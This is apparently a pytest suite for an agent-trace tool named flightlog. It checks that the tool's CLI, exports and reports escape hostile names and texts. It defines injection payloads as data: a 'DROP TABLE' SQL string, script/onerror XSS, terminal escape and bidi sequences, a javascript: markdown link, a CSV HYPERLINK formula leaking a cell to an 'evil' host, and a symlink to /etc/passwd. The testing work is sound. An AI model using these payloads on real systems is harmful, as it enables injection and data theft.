"""Names, keys and texts of a trace that look like SQL, HTML, Markdown, formulas or escapes.

Every command that shows a trace is run over a store where every text is hostile.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pyarrow as pa
import pytest

from flightlog.analysis.db import Traces
from flightlog.analysis.export import write_result
from flightlog.analysis.questions import questions
from flightlog.cli import run
from flightlog.recorder.record import record
from flightlog.trace.clock import SystemClock
from flightlog.trace.messages import Message, ToolRequest

SQL = "x'); DROP TABLE runs; --"
HTML = '"><script>alert(1)</script><img src=x onerror=alert(1)>&amp;'
TERMINAL = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b\u202eevil\u2066\x00\r\x08"
MARKDOWN = "a|b`c`[x](javascript:alert(1))![](http://evil/x.png)\n# title\n\n|new|row|"
FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'
EVIL = (SQL, HTML, TERMINAL, MARKDOWN, FORMULA, "+1", "-1", "@SUM(A1)", "\tx", "\rx", "]]>")
TEXT = "".join(EVIL)
VIEWS = ("runs", "steps", "model_calls", "tool_calls", "messages", "budgets", "events")


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two sides, eight tasks; the candidate makes two calls more of tools with evil names."""
    path = tmp_path_factory.mktemp("hostile") / "store"
    for variant, calls in (("baseline", 1), ("candidate", 3)):
        for task in range(8):
            evil = EVIL[task % len(EVIL)]
            with record(
                path, task_id=f"{evil}{task}", variant=variant, trial=0, session_id=TEXT,
                agent=evil, agent_version=evil, model=TEXT, suite=TEXT, tenant=TEXT, golden=evil,
                conversation_id=TEXT, labels=dict.fromkeys(EVIL, evil), source=evil,
                source_run_id=TEXT, max_steps=9, data_subject=TEXT,
            ) as run_:  # fmt: skip
                request = ToolRequest(TEXT, TEXT, TEXT)
                for _ in range(calls):
                    run_.model_call(
                        step=1, request_model=TEXT, response_model=TEXT, provider=TEXT,
                        input_tokens=9, output_tokens=1, error=TEXT, latency_ms=5.0,
                        prompt=[Message("system", TEXT), Message("user", TEXT, name=TEXT)],
                        output=Message("assistant", TEXT, (request,)),
                    )  # fmt: skip
                    run_.tool_call(
                        step=1, tool_name=evil, tool_call_id=TEXT, args=dict.fromkeys(EVIL, TEXT),
                        result=dict.fromkeys(EVIL, TEXT), error=TEXT, error_type=TEXT,
                        outcome="failed",
                    )  # fmt: skip
                run_.tool_intent(step=1, tool_name=TEXT, args=dict.fromkeys(EVIL, 1))
                run_.state_changed(
                    subject="guard", tool_name=TEXT, state_from=TEXT, state_to=TEXT, detail=TEXT
                )
                run_.evaluation(name="success", passed=variant == "baseline", detail=TEXT)
                run_.stopped(
                    stop_reason="tool_failed", status="failed", stop_tool=TEXT, stop_detail=TEXT,
                    max_steps=9, used_steps=3,
                    answer=TEXT, source_stop_reason=TEXT,
                )  # fmt: skip
    return path


def output(capsys: pytest.CaptureFixture[str], *argv: object) -> str:
    code = run([str(part) for part in argv])
    printed = capsys.readouterr()
    assert code in (0, 1, 2), printed.err
    assert_harmless(printed.err)
    return printed.out


def assert_harmless(text: str) -> None:
    """Nothing that a terminal obeys or that reorders a line."""
    acting = [
        char
        for char in text
        if char not in "\n\t\u200c\u200d" and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl")
    ]
    assert acting == []


@pytest.mark.parametrize(
    "argv",
    [
        ["runs"],
        ["show", "last"],
        ["show", "last", "--full"],
        ["verify"],
        ["doctor"],
        ["seal"],
        ["check"],
        ["postmortem"],
        ["postmortem", "last"],
        ["compact", "--dry-run"],
        ["retain", "--older-than", "1d", "--dry-run"],
        ["erase", "--tenant", TEXT, "--why", "x", "--dry-run"],
        ["sql", "SELECT * FROM events"],
        ["sql", f'SELECT 1 AS "{TERMINAL}", 2 AS "{MARKDOWN}"'.replace("\x00", "")],
    ],
    ids=lambda argv: ascii("-".join(argv))[:40],
)
def test_terminal_shows_and_does_not_obey(
    store: Path, capsys: pytest.CaptureFixture[str], argv: list[str]
) -> None:
    assert_harmless(output(capsys, *argv, "--store", store))


@pytest.fixture(scope="module")
def traces(store: Path) -> Iterator[Traces]:
    with Traces(store) as opened:
        yield opened


def written(table: pa.Table, form: str) -> str:
    stream = io.StringIO(newline="")
    write_result(table, form=form, stream=stream)
    return stream.getvalue()


@pytest.mark.parametrize("name", [question.name for question in questions()])
def test_questions_are_answered_harmlessly_in_every_form(traces: Traces, name: str) -> None:
    answer = traces.ask(name)
    assert_harmless(written(answer, "table"))
    assert_defused(written(answer, "csv"))
    json.loads(written(answer, "json"))


@pytest.mark.parametrize("view", VIEWS)
def test_views_are_written_harmlessly_in_every_form(traces: Traces, view: str) -> None:
    rows = traces.table(view)
    assert_harmless(written(rows, "table"))
    assert_defused(written(rows, "csv"))
    assert json.loads(written(rows, "json"))


def test_commands_write_csv_defused(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    query = f'SELECT *, 1 AS "{FORMULA.replace(chr(34), "")}" FROM events'
    assert_defused(output(capsys, "sql", query, "--format", "csv", "--store", store))
    assert_defused(output(capsys, "ask", "tool_errors", "--format", "csv", "--store", store))


def assert_defused(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            is_number = cell.removeprefix("-").replace(".", "", 1).isdecimal()
            assert is_number or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


class _Tags(HTMLParser):
    """All elements of a page and their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def test_reports_escape_what_they_show(
    store: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    forms = ("html", "md", "json", "xml", "sarif", "txt")
    names = {form: tmp_path / f"report.{form}" for form in forms}
    paths = [part for path in names.values() for part in ("-o", path)]
    printed = output(capsys, "check", "--store", store, "--github", *paths)
    assert_harmless(printed)
    commands = [line for line in printed.splitlines() if line.startswith("::")]
    assert commands
    assert all(re.match(r"::(error|warning|notice) title=[^:,]+::", line) for line in commands)
    texts = {form: path.read_text(encoding="utf-8") for form, path in names.items()}
    json.loads(texts["json"])
    json.loads(texts["sarif"])
    ElementTree.fromstring(texts["xml"])
    for form in ("html", "md", "xml", "txt"):
        assert_harmless(texts[form])
    assert (tmp_path / "summary.md").read_text(encoding="utf-8").strip() == texts["md"].strip()
    page = _Tags()
    page.feed(texts["html"])
    tags = {tag for tag, _ in page.found}
    assert not tags & {"script", "img", "iframe", "object", "embed", "form", "base"}
    attributes = {name for _, found in page.found for name in found}
    assert not [name for name in attributes if name.startswith("on")]
    assert not [found for _, found in page.found if "javascript:" in str(found.get("href"))]
    assert "<script" not in texts["md"]
    assert "<img" not in texts["md"]
    assert not re.search(r"(?<!\\)\]\(", texts["md"])  # a link or an image


def test_a_postmortem_escapes_what_it_shows(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Eighty runs of hostile names, evenly in time: in the last twenty a hostile tool fails."""
    times = itertools.count(1_790_000_000_000_000, 1_000_000)
    monkeypatch.setattr(SystemClock, "wall_us", lambda _: next(times))
    for number in range(80):
        with record(
            tmp_path / "store", agent=TEXT, tenant=EVIL[1], model=TEXT, task_id=str(number),
            agent_version=EVIL[number % len(EVIL)],
        ) as one:  # fmt: skip
            for step in range(1, 5):
                one.model_call(step=step, request_model=TEXT, outcome="ok", cost_usd=0.1)
                one.tool_call(
                    step=step, tool_name=TEXT, effect="read", args={"n": step}, error=TEXT,
                    outcome="failed" if number >= 60 else "ok", error_type=HTML,
                )  # fmt: skip
                one.tool_call(step=step, tool_name=HTML, outcome="denied", error_type=MARKDOWN)
    paths = {form: tmp_path / f"found.{form}" for form in ("html", "md", "json", "txt")}
    options = [part for path in paths.values() for part in ("-o", path)]
    printed = output(capsys, "postmortem", "--store", tmp_path / "store", *options)
    assert "tool failing" in printed
    assert_harmless(printed)
    texts = {form: path.read_text(encoding="utf-8") for form, path in paths.items()}
    json.loads(texts["json"])
    for form in ("html", "md", "txt"):
        assert_harmless(texts[form])
    tags = _Tags()
    tags.feed(texts["html"])
    assert {tag for tag, _ in tags.found}.isdisjoint({"script", "img", "iframe", "a", "link"})
    assert "<script" not in texts["md"]
    assert not re.search(r"(?<!\\)\]\(", texts["md"])  # a link or an image


def test_name_that_is_sql_finds_nothing_and_changes_nothing(
    store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = output(capsys, "sql", "SELECT count(*) AS n FROM runs", "--store", store)
    assert run(["show", SQL, "--store", str(store)]) == 64
    assert run(["runs", "--variant", SQL, "--store", str(store)]) == 64
    capsys.readouterr()
    output(capsys, "ask", "success_rate", "-p", f"model={SQL}", "--store", store)
    assert output(capsys, "sql", "SELECT count(*) AS n FROM runs", "--store", store) == before


def test_plot_draws_hostile_names(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "plot.svg"
    output(capsys, "plot", "budgets", "--out", path, "--store", store)
    page = _Tags()
    page.feed(path.read_text(encoding="utf-8"))
    assert not {tag for tag, _ in page.found} & {"script", "image", "foreignobject", "a"}


FORMS = ("parquet", "jsonl", "csv")


@pytest.mark.parametrize("form", FORMS)
def test_exports_of_hostile_names_are_harmless(
    store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], form: str
) -> None:
    folder = tmp_path / "exported"
    told = output(capsys, "export", "--format", form, "--out", folder, "--store", store)
    assert_harmless(told)
    names = sorted(path.name for path in folder.rglob("*"))
    assert names
    assert all(re.fullmatch(r"[a-z_.]+", name) for name in names)
    if form == "csv":
        for path in folder.rglob("*.csv"):
            assert_defused(path.read_text(encoding="utf-8"))


def test_redact_shows_a_hostile_text_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "text"
    path.write_text(f"{TEXT}\nmail hunter2@example.com password=hunter2hunter2", encoding="utf-8")
    assert_harmless(output(capsys, "redact", path))
    assert_harmless(output(capsys, "redact", "--explain", path))


@pytest.mark.parametrize("command", ["runs", "verify", "doctor", "check", "seal", "compact"])
def test_files_of_hostile_names_in_a_store_are_told_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str
) -> None:
    with record(tmp_path / "store") as run_:
        run_.tool_call(tool_name="t")
    evil = TERMINAL.replace("\x00", "")
    for name in ("journal/{}.journal", "events/{}.parquet", "manifest/{}.json", "blobs/{}"):
        (tmp_path / "store" / name.format(evil)).write_bytes(b"x" * 99)
    (tmp_path / "store" / "events" / f"{evil}link.parquet").symlink_to("/etc/passwd")
    code = run([command, "--store", str(tmp_path / "store")])
    printed = capsys.readouterr()
    assert code in (0, 1, 2, 64), printed.err
    assert_harmless(printed.out)
    assert_harmless(printed.err)
